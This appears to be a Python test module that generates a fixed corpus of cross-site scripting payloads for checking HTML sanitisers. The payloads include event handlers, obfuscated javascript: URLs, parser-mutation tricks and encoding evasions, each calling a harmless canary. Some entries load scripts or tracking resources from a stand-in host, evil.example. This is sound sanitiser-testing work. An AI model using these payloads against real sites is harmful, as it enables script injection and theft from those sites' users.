# ruff: noqa: E501 - payloads are easier to compare side by side
"""Ways to run a script that sanitisers have let through, by families: each calls ``canary()`` if it can.

Other people's lists are not kept here. ``SYNDICATE_PAYLOADS`` may name a folder of ``*.test`` files as bleach
has them in its source distribution (the public cheat sheet of filter evasion, one file for each attack):
``pip download bleach --no-deps --no-binary :all:``, then its folder ``tests/data``.
"""

import os
from collections.abc import Iterator
from itertools import product
from pathlib import Path

_RUN = "canary(1)"
_HOSTS = (
    "img src=x", "svg", "body", "video src=x", "audio src=x", "input autofocus", "select autofocus",
    "textarea autofocus", "button autofocus", "marquee", "details open", "object data=x", "embed src=x",
    "iframe src=about:blank", "frameset", "form", "a href=#x tabindex=1 autofocus", "div style=animation:x",
    "svg><animate attributeName=x dur=1s", "math><mi tabindex=1 autofocus", "x tabindex=1 autofocus",
)  # fmt: skip
_EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onbegin", "onstart", "onanimationstart", "ONERROR")
_SCHEMES = (
    "javascript:{}", "JaVaScRiPt:{}", " javascript:{}", "\tjavascript:{}", "java\tscript:{}", "java\nscript:{}",
    "\x01javascript:{}", "&#106;avascript:{}", "&#x6A&#x61vascript:{}", "javascript&colon;{}", "java&Tab;script:{}",
    "javascript:/*--></title></style></textarea></script>*/{}", "vbscript:{}", "data:text/html,<script>{}</script>",
    "data:text/html;base64,PHNjcmlwdD5jYW5hcnkoMSk8L3NjcmlwdD4=", "data:image/svg+xml,<svg onload='{}'/>",
    "feed:javascript:{}", "view-source:javascript:{}", "jav&#x0A;ascript:{}",
)  # fmt: skip
_PLACES = (
    '<a href="{}">x</a>', '<iframe src="{}"></iframe>', '<embed src="{}">', '<object data="{}"></object>',
    '<form action="{}"><input type=submit></form>', '<button formaction="{}">x</button>', '<img src="{}">',
    '<svg><a xlink:href="{}"><text y=20>x</text></a></svg>', '<svg><use href="{}#x"/></svg>',
    '<meta http-equiv=refresh content="0;url={}">', '<base href="{}">', '<link rel=stylesheet href="{}">',
    '<video poster="{}"></video>', '<area href="{}">', '<math href="{}">x</math>',
)  # fmt: skip
_OTHERS = (
    "<script>{}</script>", "<ScRiPt>{}</sCrIpT>", "<script/x>{}</script>", "<script\x0c>{}</script >",
    "<scr<script>ipt>{}</scr</script>ipt>", "<script>{}", "<<script>{}//<</script>", "\x00<script>{}</script>",
    "<scr\x00ipt>{}</scr\x00ipt>", "&lt;script&gt;{}&lt;/script&gt;", "&amp;lt;script&amp;gt;{}&amp;lt;/script&amp;gt;",
    "<script src=//evil.example/x.js></script>", "<style>@import '//evil.example/x.css';</style>",
    "<div style=\"background:url(//evil.example/x)\">x</div>", "<div style=\"width:expression({})\">x</div>",
    "<link rel=import href=//evil.example/x>", "<link rel=prefetch href=//evil.example/x>",
    "<img src=x onerror\n=\n{}>", "<img/src=x/onerror={}>", "<img src='x'onerror={}>", "<img \"><script>{}</script>\">",
    "<img src=`x` onerror={}>", "<img src=x:x onerror={} //", "<img alt='</p><script>{}</script>' src=x>",
    "\"><script>{}</script>", "'><script>{}</script>", "\" onmouseover={} autofocus onfocus={} x=\"",
    "</title><script>{}</script>", "</textarea><script>{}</script>", "--><script>{}</script>", "]]><script>{}</script>",
    "</script><script>{}</script>", "</style><script>{}</script>", "<!--><script>{}</script>-->",
    "<!-- --!><script>{}</script> -->", "<!-x><img src=x onerror={}>", "<![CDATA[<script>{}</script>]]>",
    "<svg><script>{}</script></svg>", "<svg><script href=data:,{} /></svg>", "<svg><style><img src=x onerror={}></style></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror={}>\">", "<svg><![CDATA[><img src=x onerror={}>]]></svg>",
    "<svg><desc><table><thead><s></table></s></desc><img src=x onerror={}></svg>",
    "<svg><foreignObject><iframe srcdoc=\"<script>parent.{}</script>\"></iframe></foreignObject></svg>",
    "<svg><set attributeName=href to=javascript:{} /><a id=x><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={}&gt;\">",
    "<math><mtext><table><mglyph><style><math><img src=x onerror={}></style></table>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror={}></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={}>",
    "<noscript><p title=\"</noscript><img src=x onerror={}>\">", "<xmp><p title=\"</xmp><img src=x onerror={}>\">",
    "<noembed><p title='</noembed><img src=x onerror={}>'>", "<noframes><p title='</noframes><img src=x onerror={}>'>",
    "<textarea><p title='</textarea><img src=x onerror={}>'>", "<title><p title='</title><img src=x onerror={}>'>",
    "<iframe><p title='</iframe><img src=x onerror={}>'></iframe>", "<template><script>{}</script></template>",
    "<select><template><img src=x onerror={}></template></select>", "<plaintext><img src=x onerror={}>",
    "<listing>&lt;img src=x onerror={}&gt;</listing>", "<p><a href='x' title='&quot;><img src=x onerror={}>'>x</a>",
    "<iframe srcdoc='<script>parent.{}</script>'></iframe>", "<object type=text/html data='data:text/html,<script>{}</script>'>",
    "<input type=image src=x onerror={}>", "<isindex type=image src=x onerror={}>", "<table background=javascript:{}>",
    "+ADw-script+AD4-{}+ADw-/script+AD4-", "%3Cscript%3E{}%3C/script%3E", "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "\ufeff<script>{}</script>", "\u2028<script>{}</script>", "\uff1cscript\uff1e{}\uff1c/script\uff1e",
    "<\u017fcript>{}</\u017fcript>", "<a href=x onclick={}>{}</a>", "{{{{constructor.constructor('{}')()}}}}", "${{{}}}",
    "<base href=//evil.example/>", "<meta charset=utf-7>", "<img width=1 height=1 src=//evil.example/pixel>",
    "<div style=display:none><img src=//evil.example/hidden></div>",
    "<audio src=//evil.example/a autoplay></audio>", "<video src=//evil.example/v autoplay></video>",
    "<iframe src=//evil.example/f></iframe>", "<a ping=//evil.example/p href=x>x</a>", "<img srcset='//evil.example/s 1x'>",
    "<picture><source srcset=//evil.example/s><img src=x></picture>", "<svg><image href=//evil.example/i /></svg>",
    "<input type=image src=//evil.example/i>", "<object data=//evil.example/o></object>", "<bgsound src=//evil.example/b>",
    "<p style='@import \"//evil.example/c\"'>x</p>", "<div id=canary></div><a name=canary>x</a>",
)  # fmt: skip


def payloads() -> Iterator[str]:
    """Every payload, the same in every run."""
    for host, event in product(_HOSTS, _EVENTS):
        yield f"<{host} {event}={_RUN}>"
    for place, scheme in product(_PLACES, _SCHEMES):
        yield place.format(scheme.format(_RUN))
    for other in _OTHERS:
        yield other.replace("{}", _RUN)
    for file in sorted(Path(os.environ.get("SYNDICATE_PAYLOADS", os.devnull)).glob("*.test")):
        # What stands below the line is bleach's answer.
        yield file.read_text("utf-8").partition("\n--\n")[0]


def addresses() -> Iterator[str]:
    """Addresses that are code."""
    yield from (scheme.format(_RUN) for scheme in _SCHEMES)
